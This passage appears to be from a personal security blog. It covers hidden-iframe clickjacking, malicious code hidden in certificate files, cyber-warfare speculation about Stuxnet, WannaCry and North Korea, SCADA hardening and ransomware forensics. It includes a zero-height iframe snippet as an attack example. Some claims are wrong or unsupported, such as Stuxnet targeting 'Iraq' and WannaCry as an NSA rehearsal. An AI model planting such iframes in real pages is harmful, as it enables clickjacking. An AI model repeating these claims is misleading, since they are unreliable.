intoblack list.

Program syntax

<iframe src="" width=100% height=0></iframe>

Remark: Some sort of vulnerability scanner evaluate the iframe attack and categorize in medium severity.

Do you think there is a need to change the severity level now?

Malicious code embedded on enterprise certificate file

We kno wn that generate ecert is a straight forward process. The server administrator generate a CSR file on server side. Then SSL certificate vendor provides the certificate files afterwards according to CSR file. From technical point of view, the contents contains in certificate file is not a human readable language. And therefore web server administrator less check the details in general circumstances. It is hard to imagine that bad guy relies on this matter to do the criminal work. For example, embeddedcode in the certificate file. The benefits is that this malicious activities will be protected by default encryption mechanism. The malicious traffic will be pass through the defense mechanism cross check. And such away fooling the detection and preventive control .

Sample: Below SSL enterprise certificate file indicate that the application can install additional apps that were signed with this certificate. In the sense that it can bypass defense mechanism by Apple.


As we know, information security is a continuous program. Above 2 risk items (iframe attack (Clickjacking) and e-cert embedded with abnormal program syntax) bring the following idea for our reference.

1. Do not ignore the vulnerability management program about iFrame vulnerability

2. During the e-cert installation, a better idea to use online tools to verify the e-cert. You can find the online verification tools on internet. For example:Symantec


The other side of the story on cyber attack (Electronic war between countries)



We heard  that the new age transformation is coming.  As a result it transform the traditional military weapons to electronic codes. The computer  technologies such as DDOS (Distributeddenial of services), malware and virus similar a killer. It can disrupt the financial activities,  daily network communication and health care services. An idea bring to ourattention on world war II history was that classic military power result destroyed everything (mankind and properties).  But re-built the society and operation afterwar. It is a harsh and difficult mission! From technical point of view, the victorious might stand on ethics view point to assists defeated side to rebuild the business and economic system. As a matter of fact, the distruction level of war created by military weapon especially missile it is hard to evaluation. And this is the reason let’s cyber warfare appears in coming future! But it startedalready!

Analytic result on technical articles about cyber warfare

In regards to my study on technical article issued by CSS Eth Zurich (The Center for Security Studies (CSS) at ETH Zurich).The analytic result highlights serveral key factors of Cyber warfare . Cyber warfare was cheaper than traditional military force. It provides a  “cleaner” (with less or no bloodshed) suitation. No doubt that  less risky for an attacker than other forms of armed conflict. The analytic result  defines 5 different types of cyber conflict during their study. They are Cyber War, Cyber Terrorism, Cyber Espionage, internet crime and cyber vandalism.

The specific feature of cyber weapon (in between country to country)I was sometimes confused with the headline news on prediction on cyber technology war.  The questions on my mind is that how electronic weapon or cyber weapon replacing traditional military facilities? Think it over, the appropriate technique might adopted target into the following criteria (see below):

The capabilities of cyber attack techniques ( A transformation of traditional military force)

Type Attack technology Functional feature – objective Target – Environment Remark:
Cyber Vandalism, Cyber War IOT & BOTNET (DDOS technique)Services suspension – electronic communication services (IP-Telephony) Bank, Fund House , Stock Exchange
Cyber Espionage Malware Information gathering Bank, Fund House, Stock Exchange & government sector
Cyber War, Cyber Vandalism Ransomware Services suspension important facility fucntion nuclear facility , Airlines,TV broadcast station, Radio broadcast station & military facility Ransomware feature contained facility to supspend the computer services. Besides it capable listen to the instruction of C&C server. On the other hand, the attacker can resume the services once they win the battle.
Traditional military force Bomb Services Suspension on important facility function and destroy permanently nuclear facility, military facility, power station, airport & communiation facility (Digital phone system)
Internet Crime, Cyber war Email phishing and Scam email message Carry out  psychological warfare, implant malware activities in order to fulfill their objective nuclear facility, military facility, power station,

Let us dig out one of the attack technique to see how the cyber technology feature fulfill the goal of the cyber warfare features .

Do you think Ransomware is founded by military department?

The first ransomware appear in the world on 1989. A biologist Joseph L. Popp sent 20,000 infected diskettes labeled
“AIDS Information – Introductory Diskettes” to attendees of the World Health Organization’s international AIDS conference.
But after 90 reboots, the Trojan hid directories and encrypted the names of the files on the customer’s computer.
To regain access,the user would have to send $189 to PC Cyborg Corp. at a post office box in Panama.

In 2006, former President George W. Bush was increasingly worried about Iranian efforts at enriching uranium, and ultimately, its hopes to build an atomic bomb. The goal of Stuxnet is going to destroy Iraq nuclear facilities driven by US government. The rumors were told Stuxnet malware destroyed roughly one-fifth of Iran’s centrifuges in 2009.

An unconfirmed  information stated that there is a separate operation called Nitro Zeus, which gave the US access into Iran’s air defense systems so it could not shoot down planes, its command-and-control systems so communications would go dead, and infrastructure like the power grid, transportation, and financial systems.


WannaCry infection using EternalBlue, an exploit of Windows’ Server Message Block (SMB) protocol.  The U.S. National Security Agency (NSA) had discovered the vulnerability in the past, but used it to create an exploit for its own offensive work, rather than report it to Microsoft. As we know nuclear power facilities control system OS platform relies on Microsoft OS system (see below articles). It may causes people think is there any secret action hide by NSA (National Security Agency). He aroused my interest in questioning who is the key figure to spread WannCry ransome? It looks that there is similarity with Stuxnet worm infection in 2009. Since we all fool by NSA at that time let your computer workstation transform toa cyber army then attack USA enemy.  Do you think wanncry isthe rehearsal of test or pilot run?

Malware vs. nuclear power: Do you think SCADA system is the culprit of attack on nuclear power system?

Below diagram is my imagination of the modern nuclear facility environment. The SCADA system pay a key role in nuclear power facility. Ransomeware have capabilities to suspend the services of this facilities. It doesn’t need to destroy anything but the services will be totally shut it down the services. We have seen the real example in UK health care services as a reference. I will stop written here. Should you have any queries, I will try my best to written more in future.

Supplement – The other side of the story on cyber attack (Electronic war between countries)– 13th June 2017


As said on above discussion topic, since it looks not interest to visitors on reflection of comments on feedback.  However there is something on my mind need to share.

North Korea President Kim’s intention show to the world of his governance power. He is in frequent to demonstrate his military power cause US government concerns his equalize of military power in the world. To be honest, it is hard to equal the military and economics power as of today. For instance China nearly become the 1st business economic leader. We all know United state is the leader in this moment. However their economic operation chain should have difficulties to do the 2nd round of transformation. Because some of their capital business and business economy contained made in China element.  Since North Korea on finance and business economy are weak. President Kim did such things seems not make sense. I did not visit North Korea however a lot of news on TV might speculate their current situation. I strongly believed that their nuclear facility might operation in 60’s fashion. The SCADA system not possibly supply by Siemens. But learn and develop a windows based SCADA system not difficult.  From information point of view, North Korea nuclear facilities might relies on window for Control Systems instead of Linux for control system.  And therefore Ransomware type attack can specifics shot the target. Meanwhile the business industry from North Korea all work with Microsoft OS  in dailylife.

The infection status of wannacry was not issued by North Korea government.  But for sure that wannacry type infection can suspend North Korea business finance and industries operations.

Below are the hints how to eliminate the risks issued by  SCADA system vendor. Any interest?

Process control vendors require:
1. A system with a minimal attack surface, so that biweekly or monthly patches are not required
2. A consistent programming interface that will not change every four to five years, requiring a complete rewrite of their software
3. An environment that can be quickly and safely “locked down” to reduce the risk from hacking
4. A system with limited network access, only through specific ports to reduce the risk of network based attacks
5. Support for priority-based multi-tasking, preferably a real-timeoperating system (RTOS) that supports hard real-time requirements
6. A robust ecosystem of utilities and tools to make development, installation, debugging, and maintenance as easy as it is on consumer systems.

End of this topic




Modern Sherlock Holmes – Find out the (malware & ransomware) perpetrators.A science concept guide human being to hypothesize boldly, to testify rigorously. It looks to me that this concept is principle but I believe that more terms can enrich our technology life. For example, carry the don’t care term during yourdevelopment and thinking. That is even though it was unsucessful, you will receive knowledge. You will dig out more during this circumstances.Remark: Since don’t care term also apply to boolean expression. May be you are think that it is a little bit side track, right. But we are in cyber world. In digital logic, a don’t-care term for a function is an input-sequence (a series of bits) for which the function output does not matter.

OK, we go to the subject matter today. How we imagine that Sherlock Holmes do a study on cybercrime. Find out the (malware & ransomware) perpetrator?

Perform investigation

From digital forensic point of view, the investigation will focus on the following objectives:

Capturing a Live RAM dump
Acquiring a Disk Image
Discovering and Analyzing Evidence
Creating Reports

Since I am not going to suggest that we engage a real exercises now. It is not agood idea without preventive control to execute this job. Run in rush without preparation thuscontain inherent risk harm your machine and personal data. So we step back take a hot example (wanna cry) see whether can dig out more idea and information.

Observation Point 1 – Languages

Since we are not going to do a forensic investigation. We simply walk through example (wannacry) on language setup.  From language setup capabilities (see below), it looks that it cover the languages all around the world.

Criminal psychology

From criminal psychology point of view, it looks that the criminal not going to specify a specifics target. A high level point of view that they are looking for money. Fully compatible of language set benefits for their objective.

Observation Point 1.1 – Written language and grammar

From detection point of view, the written language and grammar can provides hints to detective see whether to dig outhints. This hints may speculate for the direction of the detection. For example: the fundamental limitation of mother tongue translation to other native language.

Weakness of this detection method:

Such detection might fool by criminal group and intend to interfere the direction.

Observation Point 2 – Malware written technique:

Some of the times, the written programming style and infection technique might provides hints to detective to the right direction. But a lot of time will interfere the direction of investigation. For example: Wannacry relies on NSA (DoublePulsar) back door software agent or SMB v1 vulnerability (see below picture) to execute the job task. From normal circumstance’s, bad guy will implant a backdoor to victim machine tofulfill the infiltration job task. Unfortunately the backdoor software (DoublePulsar) was given from NSA of their global surveillance program. Wannacry is a ransome software. In the sense that NSA might not be the perpetrator. As a result it interrupt the trace process. The investigator can’t follow the hints to predict who is the appropriate party to do this criminal job.

Observation Point 3 – Down to the grove, execute forensic investigation

Since above observation items might contain fundamental weakness. As a matter of fact, those items of evidences might become a relevant evidence. The fundamental theory by law of relevant evidence interpret that relevant part of evidence is logically connected to the fact it is intended to establish” (Blackwell, 2004).  However the investigator or detective most likely will prefer to execute forensic investigation to receive the digital and demonstrative evidence.

Technical limitation of the forensic investigation

We know that ransomware infection crisis like Wannacry victims suspended Health care services in United Kingdom. The major effect which harm to whole hospital services over there! Since healthcare services maintains compliance standard. It is possible to let the forensic investigator do the investigation (see below step).

1. Capturing a Live RAM dump
2. Acquiring a Disk Image
3. Discovering and Analyzing Evidence
4. Creating Report

However a technical limitation has been found on traditional digital forensic investigation criteria.

Few evidences will be lost once victim power off their machine.
Victim which have technical know how will erase some evidence
Audit log disable by default

Advanced technology enhance  the limitation on their investigation algorithm

